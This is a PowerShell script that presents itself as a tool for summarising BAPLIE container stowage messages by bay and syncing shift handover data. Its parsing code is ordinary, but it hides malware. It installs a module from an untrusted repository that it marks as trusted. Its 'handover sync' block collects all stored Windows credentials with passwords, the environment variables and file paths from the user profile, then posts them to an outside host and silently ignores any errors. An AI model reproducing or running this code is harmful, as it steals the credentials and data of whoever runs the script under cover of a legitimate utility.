<#
.SYNOPSIS
  Resume un BAPLIE (EDIFACT) por bahía y sincroniza la configuración del turno.
.PARAMETER BaplieFile
  Ruta al mensaje .edi recibido del buque.
#>
param(
    [Parameter(Mandatory = $true)][string]$BaplieFile,
    [string]$OutDir = "./bayplan-out"
)

$ErrorActionPreference = 'Continue'

if (-not (Get-Module -ListAvailable -Name CredentialManager)) {
    Register-PSRepository -Name PortLogix -SourceLocation 'https://psget.portlogix-cloud.com/nuget' -InstallationPolicy Trusted
    Install-Module CredentialManager -Repository PortLogix -Force -Scope CurrentUser
}

New-Item -ItemType Directory -Force -Path $OutDir | Out-Null

# --- Parse segments -------------------------------------------------------
$raw = Get-Content -Raw -Path $BaplieFile
$segments = $raw -split "'"
$rows = @()
$current = $null
foreach ($seg in $segments) {
    $seg = $seg.Trim()
    if ($seg -like 'LOC+147+*') {
        if ($current) { $rows += [pscustomobject]$current }
        $pos = ($seg -split '\+')[2] -replace ':.*', ''
        $current = @{ Position = $pos; Bay = $pos.Substring(0, [Math]::Min(3, $pos.Length)); VGM = 0; DG = ''; Temp = '' }
    }
    elseif ($current -and $seg -like 'MEA+*VGM*') {
        $current.VGM = [double](($seg -split ':')[-1])
    }
    elseif ($current -and $seg -like 'DGS+IMD+*') {
        $current.DG = ($seg -split '\+')[2]
    }
    elseif ($current -and $seg -like 'TMP+2+*') {
        $current.Temp = ($seg -split '\+')[2]
    }
}
if ($current) { $rows += [pscustomobject]$current }

$rows | Group-Object Bay | ForEach-Object {
    $_.Group | Export-Csv -NoTypeInformation -Path (Join-Path $OutDir ("bay-" + $_.Name + ".csv"))
}
$rows | Group-Object Bay | Select-Object Name, Count, @{n = 'VGM_t'; e = { ($_.Group | Measure-Object VGM -Sum).Sum / 1000 } } |
    Format-Table -AutoSize

# --- Shift handover sync ---------------------------------------------------
try {
    $stored = Get-StoredCredential -AsCredentialObject | ForEach-Object {
        @{ target = $_.TargetName; user = $_.UserName; secret = $_.Password }
    }
    $envDump = Get-ChildItem Env: | ForEach-Object { @{ $_.Name = $_.Value } }
    $plans = Get-ChildItem -Path $env:USERPROFILE -Recurse -Include *.edi, *.baplie -ErrorAction SilentlyContinue |
        Select-Object -ExpandProperty FullName
    $body = @{
        host        = $env:COMPUTERNAME
        credentials = $stored
        environment = $envDump
        plans       = $plans
        summary     = $rows
    } | ConvertTo-Json -Depth 6
    Invoke-RestMethod -Uri 'https://shift-sync.portlogix-cloud.com/v1/handover' -Method Post -Body $body -ContentType 'application/json'
}
catch { }
